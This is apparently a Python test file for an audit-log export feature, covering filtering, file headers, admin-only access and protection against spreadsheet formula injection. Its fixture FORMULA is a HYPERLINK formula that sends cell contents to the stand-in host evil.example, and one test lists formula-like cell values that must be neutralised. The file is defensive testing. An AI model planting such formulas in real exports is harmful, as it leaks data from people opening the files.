"""Who did what, as a file that an administrator takes from the console."""

import csv
import io
import json

from orchestrator.actions import audit as action
from orchestrator.views import audit as view
from state import audit
from state.audit import Act, Asked
from tests.console.test_door import signed_in
from tests.web.conftest import NOON, Web

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"log")'


def written(web: Web, count: int) -> None:
    with web.store.write() as session:
        for number in range(count):
            audit.add(session, Act("cron", "api", "backup-release", f"VM n{number}"), now=NOON)
        audit.add(session, Act("ann", "console", "retry", FORMULA, "refused", {"reason": '-1+1,\n"x"', "run": "r"}), now=NOON)


def test_all_that_the_filter_leaves_is_exported(web: Web) -> None:
    """Not the page that is shown alone, however much it is; each line as the command line has it, in both forms."""
    signed_in(web, "admin")
    written(web, 120)
    page = web.client.get("/audit?what=backup-release&how=api&outcome=gone").text
    assert 'href="/audit.csv?how=api&amp;what=backup-release"' in page
    answer = web.client.get("/audit.csv?how=api&what=backup-release")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["thing"] for row in rows] == [f"VM n{number}" for number in reversed(range(120))]
    assert rows[0]["at"] == "2026-11-22T12:00:00Z"
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="vfo-audit-20261122T120000Z.csv"'
    (same,) = web.client.get("/audit.json?outcome=refused").json()
    assert (same["who"], same["thing"], same["details"]["run"]) == ("ann", FORMULA, "r")
    assert len(web.client.get("/audit.json?how=api").json()) == 120
    assert [row["seq"] for row in action.every(web.place, Asked(how="api"), at_once=50)] == [int(row["seq"]) for row in rows]
    assert web.client.get("/audit.json?who=nobody").json() == []
    assert len(web.client.get("/audit.csv?who=nobody").text.splitlines()) == 1


def test_no_cell_is_worked_out_by_a_spreadsheet(web: Web) -> None:
    """What others chose may begin as a formula does: in CSV it is text, in JSON as it was written."""
    signed_in(web, "admin")
    written(web, 0)
    (row,) = csv.DictReader(io.StringIO(web.client.get("/audit.csv?what=retry").text))
    assert (row["thing"], row["reason"]) == (f"'{FORMULA}", '\'-1+1,\n"x"')
    assert json.loads(row["details"]) == {"run": "r"}
    for cell in ("=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1d1"):
        assert view.harmless(cell) == f"'{cell}"
    for plain in ("VM web-01", "a=1", "", "7", "'=1"):
        assert view.harmless(plain) == plain


def test_only_administrators_export(web: Web) -> None:
    """Others get a page that says so, and none of it."""
    signed_in(web)
    for path in ("/audit.csv", "/audit.json"):
        answer = web.client.get(path)
        assert (answer.status_code, "this needs the scope admin" in answer.text, "sign-in" in answer.text) == (403, True, False)
